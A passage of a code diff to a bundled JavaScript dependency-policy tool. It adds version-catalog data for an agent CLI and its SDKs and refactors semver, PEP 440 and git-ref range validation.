:["2.1.105"]},"v1.0.95":{"commit":"39431830520a7ae6c0c572f11a7707e7043325e3","date":"2026-04-14","cliVersions":["2.1.108"]},"v1.0.96":{"commit":"5fb899572b81d2bb648d4d187173a2f423a9677c","date":"2026-04-15","cliVersions":["2.1.109"]},"v1.0.97":{"commit":"905d4eb99ab3d43143d74fb0dcae537f29ac330a","date":"2026-04-15","cliVersions":["2.1.110"]},"v1.0.98":{"commit":"931e62027356f4c337273719db085805456e53cc","date":"2026-04-16","cliVersions":["2.1.111"]},"v1.0.99":{"commit":"c3d45e8e941e1b2ad7b278c57482d9c5bf1f35b3","date":"2026-04-16","cliVersions":["2.1.112"]},"v1.0.100":{"commit":"0d2971c794049856e777f4e8bb5a81623ec632d3","date":"2026-04-17","cliVersions":["2.1.113"]},"v1.0.101":{"commit":"38ec876110f9fbf8b950c79f534430740c3ac009","date":"2026-04-18","cliVersions":["2.1.114"]},"v1.0.102":{"commit":"5d5c10a4f389689f992ea10bb14dcb6fcc83146d","date":"2026-04-20","cliVersions":["2.1.116"]},"v1.0.103":{"commit":"4e5d8b13ca281a6d163cdb287d8917b216e00d6f","date":"2026-04-22","cliVersions":["2.1.117"]},"v1.0.104":{"commit":"b4d67413279fc18c6e5de930ae307c4f108714eb","date":"2026-04-23","cliVersions":["2.1.118"]},"v1.0.105":{"commit":"e58dfa55559035499a4982426bb73605e8b5ad8e","date":"2026-04-23","cliVersions":["2.1.119"]},"v1.0.106":{"commit":"2da6cfae686f4d400300e440e0228b971388afed","date":"2026-04-25","cliVersions":["2.1.120"]},"v1.0.107":{"commit":"567fe954a4527e81f132d87d1bdbcc94f7737434","date":"2026-04-25","cliVersions":["2.1.119"]},"v1.0.108":{"commit":"11a9dadd198803a0cea6bd53da3e0e8a762fc6ea","date":"2026-04-28","cliVersions":["2.1.121"]},"v1.0.109":{"commit":"b3c0320e7e8228fcafe773fda5bfd427aa8d1c34","date":"2026-04-28","cliVersions":["2.1.122"]},"v1.0.110":{"commit":"ef50f123a3a9be95b60040d042717517407c7256","date":"2026-04-29","cliVersions":["2.1.123"]},"v1.0.111":{"commit":"fefa07e9c665b7320f08c3b525980457f22f58aa","date":"2026-05-01","cliVersions":["2.1.126"]},"v1.0.112":{"commit":"2cc1ac1331eac7a6a96d716dd204dd2888d0fcd2","date":"2026-05-04","cliVersions":["2.1.128"]},"v1.0.113":{"commit":"7d7d3055f1fdc9a97a040c69ead9ba392fa6326a","date":"2026-05-06","cliVersions":["2.1.129"]},"v1.0.114":{"commit":"62238ddb33772a079b0a6d8665a1ff3043583067","date":"2026-05-06","cliVersions":["2.1.131"]},"v1.0.115":{"commit":"9db782c3a17ef2bfc274cd17411bc3e0a5ba1345","date":"2026-05-06","cliVersions":["2.1.132"]},"v1.0.116":{"commit":"939ae9c056ecf8a1a01409ddd1c4eadec5f8c77b","date":"2026-05-07","cliVersions":["2.1.133"]},"v1.0.117":{"commit":"034cbdb008291e7eeeac420d315fc3b45fca3781","date":"2026-05-08","cliVersions":["2.1.136"]},"v1.0.118":{"commit":"ad67978e5eb3fc76e3c86855adc19db5673fa818","date":"2026-05-09","cliVersions":["2.1.137"]},"v1.0.119":{"commit":"476e359e6203e73dad705c8b322e333fabbd7416","date":"2026-05-09","cliVersions":["2.1.138"]},"v1.0.120":{"commit":"dde2242db6af13460b916652159b6ba19a598f30","date":"2026-05-11","cliVersions":["2.1.139"]},"v1.0.121":{"commit":"f4fb5c6cdccc1ee7af63692f5d08d56efaa64cc8","date":"2026-05-12","cliVersions":["2.1.140"]},"v1.0.122":{"commit":"86eb26bf0139bdd75acd15ea5f00f45ee0a284c2","date":"2026-05-13","cliVersions":["2.1.141"]},"v1.0.123":{"commit":"51ea8ea73a139f2a74ff649e3092c25a904aed7e","date":"2026-05-14","cliVersions":["2.1.142"]},"v1.0.124":{"commit":"24492741e0ccfdef4c1d19da8e11e0f373d07494","date":"2026-05-19","cliVersions":["2.1.144"]},"v1.0.125":{"commit":"fd1877debc1340db5a461a0e4644931de8e1c271","date":"2026-05-19","cliVersions":["2.1.144"]},"v1.0.126":{"commit":"ca89df3d42dc1bc03c5ab87f533195bef6d36af0","date":"2026-05-19","cliVersions":["2.1.145"]},"v1.0.127":{"commit":"1dc994ee7a008f0ecc866d9ac23ef036b7229f84","date":"2026-05-19","cliVersions":["2.1.145"]},"v1.0.128":{"commit":"20c8abf165d5f85ab3fc970db9498436377dc9d1","date":"2026-05-21","cliVersions":["2.1.146"]},"v1.0.129":{"commit":"c9d66afb1788e701c57d58842e324dca17fd276e","date":"2026-05-21","cliVersions":["2.1.147"]},"v1.0.130":{"commit":"661a6fefbd0569ef35809da16775508ab1937862","date":"2026-05-21","cliVersions":["2.1.147"]},"v1.0.131":{"commit":"4481e6d3c7bbb88db2a928ca3444c536f589c7c1","date":"2026-05-22","cliVersions":["2.1.148"]},"v1.0.132":{"commit":"bbfaf8e1ffe3e688f7ab65ceee78de241e24a238","date":"2026-05-22","cliVersions":["2.1.149"]},"v1.0.133":{"commit":"787c5a0ce96a9a6cfb050ea0c8f4c05f2447c251","date":"2026-05-23","cliVersions":["2.1.150"]},"v1.0.134":{"commit":"36a69b6a90b850823f86de06fdfd56264772ad98","date":"2026-06-02","cliVersions":["2.1.161"]},"v1.0.135":{"commit":"70a6e5256e9e2366a1ed5c041904a982ba3a328f","date":"2026-06-03","cliVersions":["2.1.162"]},"v1.0.136":{"commit":"0b1b62002952733671bde978d429b50b51c51c85","date":"2026-06-04","cliVersions":["2.1.163"]},"v1.0.137":{"commit":"41ea7642c1436fa0ee57aae58347904b71a5af27","date":"2026-06-05","cliVersions":["2.1.165"]},"v1.0.138":{"commit":"410165836eba8e7e60fc3587e60bebdfd35ca785","date":"2026-06-06","cliVersions":["2.1.166"]},"v1.0.139":{"commit":"64de744025ca9e24df2b88204b4f1e968f39f009","date":"2026-06-06","cliVersions":["2.1.167"]},"v1.0.140":{"commit":"fbda2eb1bdc90d319b8d853f5deb53bca199a7c1","date":"2026-06-06","cliVersions":["2.1.168"]},"v1.0.141":{"commit":"593d7a5c4e0073569f74772c2b7b64c30ec14707","date":"2026-06-08","cliVersions":["2.1.169"]},"v1.0.142":{"commit":"11ba60486e4aec9ddfeafcf4bb3f00b028ac2c16","date":"2026-06-09","cliVersions":["2.1.170"]},"v1.0.143":{"commit":"eee73e2ae5399c561de4ff038aa7b36a7aa991a7","date":"2026-06-10","cliVersions":["2.1.172"]},"v1.0.144":{"commit":"0f97b95b6536c26e5f6bd90faec370d41695beca","date":"2026-06-11","cliVersions":["2.1.173"]},"v1.0.145":{"commit":"ebcdfe6dc6bb7511eb63e59e07df256dbcf59a2e","date":"2026-06-12","cliVersions":["2.1.174"]},"v1.0.146":{"commit":"0cb4f3e5e764d2e00407d29b6bf0aa9df0976d88","date":"2026-06-12","cliVersions":["2.1.175"]},"v1.0.147":{"commit":"56fa348258fbcb1aeb8d3954d5799b5991098481","date":"2026-06-12","cliVersions":["2.1.176"]},"v1.0.148":{"commit":"d5726de019ec4498aa667642bc3a80fca83aa102","date":"2026-06-13","cliVersions":["2.1.177"]},"v1.0.149":{"commit":"4d7e1f0cd85743fdc93b1c8040ab54395da024e2","date":"2026-06-15","cliVersions":["2.1.178"]},"v1.0.150":{"commit":"9dd8b95a392eb34b6f5fb56cf5a64cb735912d4b","date":"2026-06-16","cliVersions":["2.1.179"]},"v1.0.151":{"commit":"806af32823ef69c8ef357086c573a902af641307","date":"2026-06-17","cliVersions":["2.1.181"]},"v1.0.152":{"commit":"51705da45eecce209d4700538bf8377d5b5fc695","date":"2026-06-19","cliVersions":["2.1.183"]},"v1.0.153":{"commit":"2fee15510437d71399d9139ed60433470484a8fb","date":"2026-06-20","cliVersions":["2.1.185"]},"v1.0.154":{"commit":"30544b674398ee15c84819bd87caf8a87e8c7b55","date":"2026-06-22","cliVersions":["2.1.186"]},"v1.0.155":{"commit":"80b31826338489861333dc17217865dfe8085cdc","date":"2026-06-23","cliVersions":["2.1.187"]},"v1.0.156":{"commit":"74eedf1a1892082d619c3edb66b9402da6520e7f","date":"2026-06-24","cliVersions":["2.1.190"]},"v1.0.157":{"commit":"428971d2ecd6e3a7cb0ee0da2a3a8b33fdb3678d","date":"2026-06-24","cliVersions":["2.1.191"]},"v1.0.158":{"commit":"521136812280ae7ef256e06045655b9da02793f0","date":"2026-06-25","cliVersions":["2.1.193"]},"v1.0.159":{"commit":"a92e7c70a4da9793dc164451d829089dc057a464","date":"2026-06-26","cliVersions":["2.1.195"]},"v1.0.160":{"commit":"4633baf5267540f3f8cb58b684f79901d564c280","date":"2026-06-29","cliVersions":["2.1.196"]},"v1.0.161":{"commit":"fad22eb3fa582b7357fc0ea48af6645851b884fd","date":"2026-06-30","cliVersions":["2.1.197"]},"v1.0.162":{"commit":"6c0083bb7289c31716797a039b6367b3079cc46e","date":"2026-07-01","cliVersions":["2.1.198"]},"v1.0.163":{"commit":"769e3bdff9bb7ecfb51bad4c9cba23d6f5fc5ea5","date":"2026-07-02","cliVersions":["2.1.199"]},"v1.0.164":{"commit":"01872ccc02bf66740207fb338a783ce028216758","date":"2026-07-03","cliVersions":["2.1.200"]},"v1.0.165":{"commit":"558b1d6cab4085c7753fe402c10bef0fbb92ac7a","date":"2026-07-03","cliVersions":["2.1.201"]},"v1.0.166":{"commit":"f87768c6d25f92ae6efa7175e223ef77d4cbf97f","date":"2026-07-06","cliVersions":["2.1.202"]},"v1.0.167":{"commit":"0fe28cdb64e23015219b0e478100b7105fd7dfa1","date":"2026-07-07","cliVersions":["2.1.203"]},"v1.0.168":{"commit":"ba0aafd4308cbba7165f9f2cdb0cfbed5a3c99ce","date":"2026-07-08","cliVersions":["2.1.204"]},"v1.0.169":{"commit":"37b464ce72700f7b2c5ff8d2db7fa7b15df792f5","date":"2026-07-08","cliVersions":["2.1.205"]},"v1.0.170":{"commit":"536f2c32a39763739000b0e1ac69ca2647d97ce9","date":"2026-07-09","cliVersions":["2.1.206"]},"v1.0.171":{"commit":"e90deca47693f9457b72f2b53c17d7c445a87342","date":"2026-07-11","cliVersions":["2.1.207"]},"v1.0.172":{"commit":"a08f8913d58013599003b37d3a9174d27e99ac90","date":"2026-07-14","cliVersions":["2.1.208"]},"v1.0.173":{"commit":"f1bd27ca5b54584506e40e17884d90bdaaa1a9b3","date":"2026-07-14","cliVersions":["2.1.209"]},"v1.0.174":{"commit":"12531344451323133b0493233c759991ac61da12","date":"2026-07-14","cliVersions":["2.1.210"]},"v1.0.175":{"commit":"1298632ce7736903d02a1435002705aa2a594a6c","date":"2026-07-15","cliVersions":["2.1.211"]},"v1.0.176":{"commit":"700e7f8316990de46bed556429765647af760efc","date":"2026-07-17","cliVersions":["2.1.212"]},"v1.0.177":{"commit":"3553f84341b92da26052e28acf1aa898f9511f32","date":"2026-07-18","cliVersions":["2.1.214"]},"v1.0.178":{"commit":"af0559ee4f514d1ef21826982bed13f7edc3c35e","date":"2026-07-19","cliVersions":["2.1.215"]},"v1.0.179":{"commit":"b76a0776ae74036e77cd11018083743453d7ad35","date":"2026-07-20","cliVersions":["2.1.216"]},"v1.0.180":{"commit":"fa7e2f0a29a126f0b81cdcf360561b36e44cf608","date":"2026-07-21","cliVersions":["2.1.217"]},"v1.0.181":{"commit":"44423bdec74b97d67543eb16c110546762c110b2","date":"2026-07-22","cliVersions":["2.1.218"]},"v1.0.182":{"commit":"e0cf66d1d257526b5d07f141838c338921cb8455","date":"2026-07-24","cliVersions":["2.1.219"]},"v1.0.183":{"commit":"be7b93b1907a4abad570368f3c74b6fe3807510b","date":"2026-07-25","cliVersions":["2.1.220"]},"v1.0.184":{"commit":"86180fa9e4d311eed10c9cc49854c53dab5d517a","date":"2026-08-04","cliVersions":["2.1.221"]},"v1.0.185":{"commit":"9db594c7a0e82298c121c18b7f08aa1579ce7341","date":"2026-08-04","cliVersions":["2.1.222"]},"v1.0.186":{"commit":"c038e4dcdedfbbca18dfb17df35a17e40ded4ddc","date":"2026-08-06","cliVersions":["2.1.223"]},"v1.0.187":{"commit":"1623c36729ac1cd5895198cded705a287de7db79","date":"2026-08-07","cliVersions":["2.1.224"]},"v1.0.188":{"commit":"7ff6806c8ebd129a7043b947af920074d3819dc8","date":"2026-08-08","cliVersions":["2.1.225"]},"v1.0.189":{"commit":"6b082c41935b4c8a3b8b0ef85ba4ba4d9eeb8975","date":"2026-08-08","cliVersions":["2.1.226"]},"v1.0.190":{"commit":"5ef2e550a465a721f4f45e4a7d3c340c873e1dcc","date":"2026-08-10","cliVersions":["2.1.227"]},"v1.0.191":{"commit":"239e3a730883eeb5c53db12b0fc9573b3024b126","date":"2026-08-11","cliVersions":["2.1.228"]},"v1.0.192":{"commit":"e63208cb983318a44e3f945e959ef894b707dcfa","date":"2026-08-13","cliVersions":["2.1.232"]},"v1.0.193":{"commit":"9d7150bc8a3dae8149739a88019d192b579ad90c","date":"2026-08-14","cliVersions":["2.1.233"]},"v1.0.194":{"commit":"459ad358ae43fea66bfefd0a1f8d840b4b9791fb","date":"2026-08-17","cliVersions":["2.1.234"]},"v1.0.195":{"commit":"d40ddef4c030e508327d6e35a9c45f3368482c50","date":"2026-08-18","cliVersions":["2.1.235"]},"v1.0.196":{"commit":"e2a4b761cd77a1138a5b41410eda9b28581f9bcd","date":"2026-08-19","cliVersions":["2.1.236"]},"v1.0.197":{"commit":"5ee796a55f92566ecd7e39d70dd613abcbea0d7c","date":"2026-08-20","cliVersions":["2.1.237"]},"v1.0.198":{"commit":"3f854a8fb5146b39d5cbf8b57f70d80810e1366f","date":"2026-08-20","cliVersions":["2.1.238"]},"v1.0.199":{"commit":"dcb57747bfceeaa1fa72638cae52295d1d853d4a","date":"2026-08-21","cliVersions":["2.1.239"]},"v1.0.200":{"commit":"24dcd50c0568f0fc9e9211213a4fd2d9eb15c4e0","date":"2026-08-22","cliVersions":["2.1.240"]},"v1":{"commit":"24dcd50c0568f0fc9e9211213a4fd2d9eb15c4e0","date":"2026-08-22","cliVersions":["2.1.240"]}}}');
+;// CONCATENATED MODULE: ./src/catalog/data/claude-agent-sdk-npm.json
+const claude_agent_sdk_npm_namespaceObject = /*#__PURE__*/JSON.parse('{"nB":"2026-11-24","sc":{"0.0.4":null,"0.1.0":null,"0.1.1":null,"0.1.2":null,"0.1.5":null,"0.1.8":null,"0.1.9":null,"0.1.10":null,"0.1.11":null,"0.1.13":null,"0.1.14":null,"0.1.15":null,"0.1.19":null,"0.1.20":null,"0.1.21":null,"0.1.22":null,"0.1.23":null,"0.1.25":null,"0.1.26":null,"0.1.27":null,"0.1.28":null,"0.1.29":null,"0.1.30":null,"0.1.31":null,"0.1.34":null,"0.1.35":null,"0.1.36":null,"0.1.37":null,"0.1.42":null,"0.1.44":null,"0.1.45":null,"0.1.46":null,"0.1.47":null,"0.1.49":null,"0.1.50":null,"0.1.51":null,"0.1.53":null,"0.1.54":null,"0.1.55":null,"0.1.56":null,"0.1.57":null,"0.1.58":null,"0.1.59":null,"0.1.60":null,"0.1.61":null,"0.1.62":null,"0.1.63":null,"0.1.65":null,"0.1.67":null,"0.1.69":null,"0.1.70":null,"0.1.71":null,"0.1.72":null,"0.1.73":null,"0.1.74":null,"0.1.75":null,"0.1.76":null,"0.1.77":null,"0.2.0":null,"0.2.1":null,"0.2.2":null,"0.2.3":null,"0.2.4":null,"0.2.5":null,"0.2.6":"2.1.6","0.2.7":"2.1.7","0.2.8":"2.1.8","0.2.9":"2.1.9","0.2.11":"2.1.11","0.2.12":"2.1.12","0.2.14":"2.1.14","0.2.15":"2.1.15","0.2.16":"2.1.16","0.2.17":"2.1.17","0.2.18":"2.1.18","0.2.19":"2.1.19","0.2.20":"2.1.20","0.2.21":"2.1.21","0.2.22":"2.1.22","0.2.23":"2.1.23","0.2.25":"2.1.25","0.2.26":"2.1.26","0.2.27":"2.1.27","0.2.29":"2.1.29","0.2.30":"2.1.30","0.2.31":"2.1.31","0.2.32":"2.1.32","0.2.33":"2.1.33","0.2.34":"2.1.34","0.2.36":"2.1.36","0.2.37":"2.1.37","0.2.38":"2.1.38","0.2.39":"2.1.39","0.2.40":"2.1.40","0.2.41":"2.1.41","0.2.42":"2.1.42","0.2.44":"2.1.44","0.2.45":"2.1.45","0.2.47":"2.1.47","0.2.48":"2.1.48","0.2.49":"2.1.49","0.2.50":"2.1.50","0.2.51":"2.1.51","0.2.52":"2.1.52","0.2.54":"2.1.54","0.2.55":"2.1.55","0.2.56":"2.1.56","0.2.58":"2.1.58","0.2.59":"2.1.59","0.2.61":"2.1.61","0.2.62":"2.1.62","0.2.63":"2.1.63","0.2.64":"2.1.64","0.2.66":"2.1.66","0.2.68":"2.1.68","0.2.69":"2.1.69","0.2.70":"2.1.70","0.2.71":"2.1.71","0.2.72":"2.1.72","0.2.73":"2.1.73","0.2.74":"2.1.74","0.2.75":"2.1.75","0.2.76":"2.1.76","0.2.77":"2.1.77","0.2.78":"2.1.78","0.2.79":"2.1.79","0.2.80":"2.1.80","0.2.81":"2.1.81","0.2.83":"2.1.83","0.2.84":"2.1.84","0.2.85":"2.1.85","0.2.86":"2.1.86","0.2.87":"2.1.87","0.2.88":"2.1.88","0.2.89":"2.1.89","0.2.90":"2.1.90","0.2.91":"2.1.91","0.2.92":"2.1.92","0.2.94":"2.1.94","0.2.96":"2.1.96","0.2.97":"2.1.97","0.2.98":"2.1.98","0.2.100":"2.1.100","0.2.101":"2.1.101","0.2.104":"2.1.104","0.2.105":"2.1.105","0.2.107":"2.1.107","0.2.108":"2.1.108","0.2.109":"2.1.109","0.2.110":"2.1.110","0.2.111":"2.1.111","0.2.112":"2.1.112","0.2.113":"2.1.113","0.2.114":"2.1.114","0.2.116":"2.1.116","0.2.117":"2.1.117","0.2.118":"2.1.118","0.2.119":"2.1.119","0.2.120":"2.1.120","0.2.121":"2.1.121","0.2.122":"2.1.122","0.2.123":"2.1.123","0.2.124":"2.1.124","0.2.126":"2.1.126","0.2.128":"2.1.128","0.2.129":"2.1.129","0.2.131":"2.1.131","0.2.132":"2.1.132","0.2.133":"2.1.133","0.2.136":"2.1.136","0.2.137":"2.1.137","0.2.138":"2.1.138","0.2.139":"2.1.139","0.2.140":"2.1.140","0.2.141":"2.1.141","0.3.142":"2.1.142","0.3.143":"2.1.143","0.3.144":"2.1.144","0.3.145":"2.1.145","0.3.146":"2.1.146","0.3.147":"2.1.147","0.3.148":"2.1.148","0.3.149":"2.1.149","0.3.150":"2.1.150","0.3.152":"2.1.152","0.3.153":"2.1.153","0.3.154":"2.1.154","0.3.156":"2.1.156","0.3.157":"2.1.157","0.3.158":"2.1.158","0.3.159":"2.1.159","0.3.160":"2.1.160","0.3.161":"2.1.161","0.3.162":"2.1.162","0.3.163":"2.1.163","0.3.165":"2.1.165","0.3.167":"2.1.167","0.3.168":"2.1.168","0.3.169":"2.1.169","0.3.170":"2.1.170","0.3.172":"2.1.172","0.3.173":"2.1.173","0.3.174":"2.1.174","0.3.175":"2.1.175","0.3.176":"2.1.176","0.3.177":"2.1.177","0.3.178":"2.1.178","0.3.179":"2.1.179","0.3.181":"2.1.181","0.3.182":"2.1.182","0.3.183":"2.1.183","0.3.185":"2.1.185","0.3.186":"2.1.186","0.3.187":"2.1.187","0.3.190":"2.1.190","0.3.191":"2.1.191","0.3.193":"2.1.193","0.3.195":"2.1.195","0.3.196":"2.1.196","0.3.197":"2.1.197","0.3.198":"2.1.198","0.3.199":"2.1.199","0.3.200":"2.1.200","0.3.201":"2.1.201","0.3.202":"2.1.202","0.3.203":"2.1.203","0.3.204":"2.1.204","0.3.205":"2.1.205","0.3.206":"2.1.206","0.3.207":"2.1.207","0.3.208":"2.1.208","0.3.209":"2.1.209","0.3.210":"2.1.210","0.3.211":"2.1.211","0.3.212":"2.1.212","0.3.213":"2.1.213","0.3.214":"2.1.214","0.3.215":"2.1.215","0.3.216":"2.1.216","0.3.217":"2.1.217","0.3.218":"2.1.218","0.3.219":"2.1.219","0.3.220":"2.1.220","0.3.221":"2.1.221","0.3.222":"2.1.222","0.3.223":"2.1.223","0.3.224":"2.1.224","0.3.225":"2.1.225","0.3.226":"2.1.226","0.3.227":"2.1.227","0.3.228":"2.1.228","0.3.229":"2.1.229","0.3.231":"2.1.231","0.3.232":"2.1.232","0.3.233":"2.1.233","0.3.234":"2.1.234","0.3.235":"2.1.235","0.3.236":"2.1.236","0.3.237":"2.1.237","0.3.238":"2.1.238","0.3.239":"2.1.239","0.3.240":"2.1.240","0.3.241":"2.1.241","0.3.242":"2.1.242","0.3.243":"2.1.243","0.3.245":"2.1.245","0.3.246":"2.1.246","0.3.247":"2.1.247","0.3.248":"2.1.248","0.3.250":"2.1.250","0.3.251":"2.1.251","0.3.252":"2.1.252","0.3.257":"2.1.257","0.3.258":"2.1.258","0.3.259":"2.1.259","0.3.260":"2.1.260","0.3.261":"2.1.261","0.3.263":"2.1.263","0.3.265":"2.1.265","0.3.266":"2.1.266","0.3.267":"2.1.267","0.3.268":"2.1.268","0.3.269":"2.1.269","0.3.270":"2.1.270","0.3.271":"2.1.271","0.3.272":"2.1.272","0.3.273":"2.1.273","0.3.274":"2.1.274","0.3.275":"2.1.275","0.3.276":"2.1.276","0.3.277":"2.1.277","0.3.278":"2.1.278","0.3.280":"2.1.280","0.3.281":"2.1.281","0.3.282":"2.1.282","0.3.283":"2.1.283","0.3.284":"2.1.284","0.3.285":"2.1.285","0.3.286":"2.1.286","0.3.287":"2.1.287","0.3.288":"2.1.288","0.3.289":"2.1.289","0.3.290":"2.1.290","0.3.291":"2.1.291","0.3.292":"2.1.292","0.3.293":"2.1.293","0.3.294":"2.1.294","0.3.295":"2.1.295","0.3.296":"2.1.296","0.3.299":"2.1.299","0.3.300":"2.1.300","0.3.301":"2.1.301","0.3.302":"2.1.302","0.3.303":"2.1.303","0.3.304":"2.1.304","0.3.305":"2.1.305","0.3.306":"2.1.306","0.3.307":"2.1.307","0.3.308":"2.1.308","0.3.309":"2.1.309","0.3.310":"2.1.310","0.3.311":"2.1.311","0.3.312":"2.1.312","0.3.314":"2.1.314","0.3.315":"2.1.315","0.3.316":"2.1.316","0.3.317":"2.1.317","0.3.318":"2.1.318","0.3.319":"2.1.319","0.3.321":"2.1.321","0.3.322":"2.1.322","0.3.323":"2.1.323","0.3.324":"2.1.324","0.3.325":"2.1.325","0.3.326":"2.1.326","0.3.327":"2.1.327","0.3.328":"2.1.328","0.3.329":"2.1.329","0.3.330":"2.1.330"}}');
+;// CONCATENATED MODULE: ./src/catalog/data/claude-agent-sdk-pypi.json
+const claude_agent_sdk_pypi_namespaceObject = /*#__PURE__*/JSON.parse('{"nB":"2026-11-24","yh":{"0.0.13":null,"0.0.14":null,"0.0.16":null,"0.0.17":null,"0.0.18":null,"0.0.19":null,"0.0.22":null,"0.1.0":null,"0.1.1":null,"0.1.2":null,"0.1.3":null,"0.1.4":null,"0.1.5":null,"0.1.6":null,"0.1.7":null,"0.1.8":null,"0.1.9":"2.0.49","0.1.10":"2.0.53","0.1.11":"2.0.57","0.1.12":null,"0.1.13":"2.0.59","0.1.14":"2.0.62","0.1.15":null,"0.1.16":"2.0.68","0.1.17":"2.0.70","0.1.18":"2.0.72","0.1.19":"2.1.1","0.1.20":"2.1.9","0.1.21":"2.1.15","0.1.22":"2.1.19","0.1.23":"2.1.20","0.1.24":"2.1.22","0.1.25":"2.1.23","0.1.26":"2.1.27","0.1.27":"2.1.29","0.1.28":"2.1.30","0.1.29":"2.1.31","0.1.30":"2.1.32","0.1.31":"2.1.33","0.1.32":"2.1.36","0.1.33":"2.1.37","0.1.34":"2.1.38","0.1.35":"2.1.39","0.1.36":"2.1.42","0.1.37":"2.1.44","0.1.38":"2.1.47","0.1.39":"2.1.49","0.1.40":"2.1.51","0.1.41":"2.1.52","0.1.42":"2.1.55","0.1.43":"2.1.56","0.1.44":"2.1.59","0.1.45":"2.1.63","0.1.46":"2.1.69","0.1.47":"2.1.70","0.1.48":"2.1.71","0.1.49":"2.1.77","0.1.50":"2.1.81","0.1.51":"2.1.85","0.1.52":"2.1.87","0.1.53":"2.1.88","0.1.55":"2.1.91","0.1.56":"2.1.92","0.1.57":"2.1.96","0.1.58":"2.1.97","0.1.59":"2.1.105","0.1.60":"2.1.111","0.1.61":"2.1.112","0.1.62":"2.1.113","0.1.63":"2.1.114","0.1.64":"2.1.116","0.1.65":"2.1.118","0.1.66":"2.1.119","0.1.67":"2.1.120","0.1.68":"2.1.119","0.1.69":"2.1.121","0.1.70":"2.1.122","0.1.71":"2.1.123","0.1.72":"2.1.126","0.1.73":"2.1.128","0.1.74":"2.1.129","0.1.75":"2.1.131","0.1.76":"2.1.132","0.1.77":"2.1.133","0.1.78":"2.1.136","0.1.79":"2.1.137","0.1.80":"2.1.138","0.1.81":"2.1.139","0.2.82":"2.1.142","0.2.83":"2.1.146","0.2.84":"2.1.147","0.2.85":"2.1.148","0.2.86":"2.1.149","0.2.87":"2.1.150","0.2.88":"2.1.161","0.2.89":"2.1.162","0.2.90":"2.1.163","0.2.91":"2.1.165","0.2.92":"2.1.166","0.2.93":"2.1.167","0.2.94":"2.1.169","0.2.95":"2.1.170","0.2.96":"2.1.172","0.2.97":"2.1.173","0.2.98":"2.1.174","0.2.99":"2.1.175","0.2.100":"2.1.176","0.2.101":"2.1.177","0.2.102":"2.1.178","0.2.103":"2.1.179","0.2.104":"2.1.181","0.2.105":"2.1.183","0.2.106":"2.1.185","0.2.107":"2.1.186","0.2.108":"2.1.187","0.2.109":"2.1.190","0.2.110":"2.1.191","0.2.111":"2.1.202","0.2.112":"2.1.203","0.2.113":"2.1.204","0.2.114":"2.1.205","0.2.115":"2.1.206","0.2.116":"2.1.207","0.2.117":"2.1.208","0.2.118":"2.1.209","0.2.119":"2.1.210","0.2.120":"2.1.211","0.2.121":"2.1.212","0.2.122":"2.1.214","0.2.123":"2.1.215","0.2.124":"2.1.216","0.2.125":"2.1.217","0.2.126":"2.1.218","0.2.127":"2.1.219","0.2.128":"2.1.220","0.2.129":"2.1.221","0.2.130":"2.1.222","0.2.131":"2.1.223","0.2.132":"2.1.224","0.2.133":"2.1.225","0.2.134":"2.1.226","0.2.135":"2.1.227","0.2.136":"2.1.228","0.2.137":"2.1.229","0.2.138":"2.1.232","0.2.139":"2.1.233","0.2.140":"2.1.235","0.2.141":"2.1.236","0.2.142":"2.1.237","0.2.143":"2.1.238"}}');
 ;// CONCATENATED MODULE: ./src/policy/versions.ts
 
 
+/** The range syntax of an ecosystem's own versions. */
+function syntaxOf(ecosystem) {
+    if (ecosystem === 'pypi')
+        return 'pep440';
+    if (ecosystem === 'github-action')
+        return 'ref';
+    return 'semver';
+}
 /**
  * Platform-suffixed builds are published as versions of the package they belong to
  * (`@openai/codex@0.100.0-linux-x64`): they are judged as the release they belong to.
  */
-const PLATFORM_PRERELEASE = /^(?:linux|darwin|macos|win32|windows|freebsd|openbsd|netbsd|sunos|aix|android)(?:[-.](?:x64|x86_64|amd64|arm64|aarch64|arm|armv7|ia32|x86|musl|gnu|msvc|riscv64|ppc64|ppc64le|s390x|loong64|baseline|\d+))*$/i;
+const PLATFORM_PRERELEASE = /^(?:linux|darwin|macos|mac|win32|win|windows|freebsd|openbsd|netbsd|sunos|aix|android)(?:[-.](?:x64|x86_64|amd64|arm64|aarch64|arm|armv7|ia32|x86|musl|gnu|msvc|riscv64|ppc64|ppc64le|s390x|loong64|baseline|\d+))*$/i;
 /** The release a version belongs to: `0.100.0-linux-x64` → `0.100.0`; others unchanged. */
 function releaseOf(version) {
     const dash = version.indexOf('-');
@@ -19592,114 +18516,1248 @@ function releaseOf(version) {
     const rest = version.slice(dash + 1).split('+')[0];
     return PLATFORM_PRERELEASE.test(rest) ? core : version;
 }
-/** Whether `range` is valid in the ecosystem's own syntax. */
-function validateRange(ecosystem, range) {
-    if (ecosystem === 'pypi') {
-        return pep440.validRange(range) || pep440.valid(range)
+const REF = /^[A-Za-z0-9._/-]+$/;
+/** Whether `range` is valid in a syntax; the message says what is wrong. */
+function validateRange(syntax, range) {
+    if (range.trim() === '')
+        return { ok: false, message: 'is empty (omit it to cover every version)' };
+    if (syntax === 'pep440') {
+        return validRange(range) || valid(range)
             ? { ok: true }
             : { ok: false, message: `"${range}" is not a valid PEP 440 version specifier` };
     }
-    if (isSemverEcosystem(ecosystem)) {
-        return semver.validRange(range, { loose: false }) !== null
+    if (semver_default().validRange(range) !== null)
+        return { ok: true };
+    if (syntax === 'ref') {
+        const refs = range.split('||').map((r) => r.trim());
+        return refs.every((r) => REF.test(r))
             ? { ok: true }
-            : { ok: false, message: `"${range}" is not a valid semver range` };
+            : {
+                ok: false,
+                message: `"${range}" is neither a semver range nor a list of refs (v1.2.3 || main || <sha>)`,
+            };
     }
-    // Exact tags, branches and digests (actions, features, installers) or semver ranges.
-    return range.trim() === '' ? { ok: false, message: 'an empty version range' } : { ok: true };
+    return { ok: false, message: `"${range}" is not a valid semver range` };
 }
-function isSemverEcosystem(e) {
-    return e === 'npm' || e === 'jsr' || e === 'tool' || e === 'vscode-extension';
+/** A semver version read from a written one: `v` prefix dropped, platform suffix judged as its release. */
+function semverOf(version) {
+    return semver_default().valid(releaseOf(version.trim().replace(/^v(?=\d)/, '')), { loose: true });
 }
 /**
- * Whether a concrete version is in a range, in the ecosystem's own semantics. Versions that the
- * ecosystem's syntax cannot read never match a range, except by exact equality.
+ * Whether a concrete version is in a range, in the syntax's own semantics (prereleases included:
+ * a banned range bans its prereleases too). Versions the syntax cannot read (a branch, a dist-tag,
+ * a digest) match only a range that names them exactly.
  */
-function versionSatisfies(ecosystem, version, range) {
-    if (ecosystem === 'pypi') {
+function versionSatisfies(syntax, version, range) {
+    if (syntax === 'pep440') {
         try {
             if (valid(range))
